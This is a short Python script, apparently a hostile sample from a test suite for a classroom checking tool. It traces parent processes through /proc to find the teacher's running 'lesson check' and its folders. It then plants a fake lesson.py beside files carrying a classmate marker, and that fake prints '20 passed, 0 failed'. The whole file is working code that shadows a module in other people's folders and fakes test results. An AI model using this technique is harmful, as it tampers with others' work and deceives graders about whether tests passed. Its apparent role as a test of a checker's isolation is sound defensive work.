# One student harms the others: plants lesson.py in the class folder, so
# the teacher's next `python -m lesson check .` from there runs the fake.
# Safety: it only plants beside a file holding the classmate marker.
import os

MARK = b"HOSTILE18-" + b"CLASSMATE"


def classmates():
    """Files holding the classmate marker in its own folder, or in the working
    folder or the arguments of the checker (its nearest ancestor running
    "lesson check"), never in this corpus itself."""
    folders, pid = [os.getcwd()], os.getppid()
    while pid > 1:
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as file:
                args = file.read().split(b"\0")
            if b"lesson" in args and b"check" in args:
                cwd = os.readlink(f"/proc/{pid}/cwd")
                folders += [cwd] + [os.path.join(cwd, os.fsdecode(a)) for a in args if a]
                break
            with open(f"/proc/{pid}/stat", "rb") as file:
                pid = int(file.read().rsplit(b")", 1)[1].split()[1])
        except OSError:
            break
    found = set()
    for folder in folders:
        for root, _, names in os.walk(folder if os.path.isdir(folder) else "/nonexistent"):
            for name in names:
                path = os.path.join(root, name)
                try:
                    with open(path, "rb") as file:
                        if MARK in file.read(4096) and "hostile_class" not in path:
                            found.add(path)
                except OSError:
                    pass
    return sorted(found)

for folder in {os.path.dirname(p) for p in classmates()}:
    try:
        with open(os.path.join(folder, "lesson.py"), "w") as file:
            file.write("print('20 passed, 0 failed')  # a fake lesson\n")
    except OSError:
        pass
